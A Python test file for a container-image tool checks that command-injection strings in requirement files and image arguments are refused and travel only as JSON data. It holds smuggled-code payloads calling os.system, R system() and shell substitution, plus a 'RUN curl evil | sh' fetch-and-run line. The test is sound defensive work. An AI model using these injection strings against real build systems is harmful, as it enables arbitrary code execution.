"""Hostile input, smoke test: nothing from a set file reaches the in-container probe as code.

A hostile pin, import name or R package name is refused by validation before the engine is
touched (DOCKER_HOST points nowhere, so reaching it would be a different error); what the probe
does receive is JSON data in a file, beside a fixed command line.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from conftest import Hostile, Project, Result, assert_refused

from imagebot.incontainer import probe_command
from imagebot.smoke import SPEC_PATH, SmokeSpec, probe_input

NO_ENGINE = "unix:///nonexistent/imagebot-hostile.sock"


def _set_line(old: str, new: str, path: str = "requirements/base.toml") -> Callable[..., None]:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("DOCKER_HOST", NO_ENGINE)
        file = project.root / path
        text = file.read_text()
        assert old in text
        file.write_text(text.replace(old, new))

    return setup


ZMQ = 'zmq-kernel = { version = "1.0.0",'
R_ENTRY = 'data.table = { version = "1.14.8",'

CASES = [
    Hostile(
        "import field with a newline and code",
        _set_line(ZMQ, ZMQ + " import = \"zmq\\nimport os; os.system('touch pwned')\","),
        ("test", "lab"),
        4,
        "is not a valid Python module name",
    ),
    Hostile(
        "import field with quotes",
        _set_line(ZMQ, ZMQ + " import = \"zmq'); __import__('os').system('id'); ('\","),
        ("test", "lab"),
        4,
        "is not a valid Python module name",
    ),
    Hostile(
        "python package name with quotes",
        _set_line("zmq-kernel = {", "\"zmq'); import os; ('\" = {"),
        ("test", "lab"),
        4,
        "is not a valid Python project name",
    ),
    Hostile(
        "python version with code",
        _set_line('version = "1.0.0"', 'version = "1.0.0\\"); import os; (\\""'),
        ("test", "lab"),
        4,
        "is not an exact pin",
    ),
    Hostile(
        "R package name with R code",
        _set_line(
            R_ENTRY,
            '"R6\\"); system(\\"touch pwned\\"); (\\"" = { version = "1.14.8",',
            "requirements/extra.toml",
        ),
        ("test", "lab"),
        4,
        "is not a valid R package name",
    ),
    Hostile(
        "R version with a newline",
        _set_line(
            'version = "1.14.8"', 'version = "1.14.8\\nsystem(1)"', "requirements/extra.toml"
        ),
        ("test", "lab"),
        4,
        "is not an exact R version",
    ),
    Hostile(
        "image argument with a newline",
        lambda project, monkeypatch: monkeypatch.setenv("DOCKER_HOST", NO_ENGINE),
        ("test", "lab\nRUN curl evil | sh"),
        2,
        "image reference",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(
    case: Hostile,
    locked_project: Project,
    monkeypatch: pytest.MonkeyPatch,
    run_cli: Callable[..., Result],
) -> None:
    assert_refused(case, locked_project, monkeypatch, run_cli)


def test_the_probe_receives_values_as_data_only() -> None:
    # Even values that validation would refuse travel as JSON strings, never as code.
    hostile = "six'); import os; os.system('id'); ('\n\"$(touch pwned)\""
    spec = SmokeSpec({hostile: hostile}, ((hostile, hostile),), ((hostile, hostile),))
    data = json.loads(probe_input(spec))
    assert data["versions"] == {hostile: hostile}
    assert data["imports"] == [[hostile, hostile]] and data["r"] == [[hostile, hostile]]
    command = probe_command("smoke_probe", SPEC_PATH)
    assert command == ["python3", "/tmp/imagebot_probe.zip", "smoke_probe", SPEC_PATH]
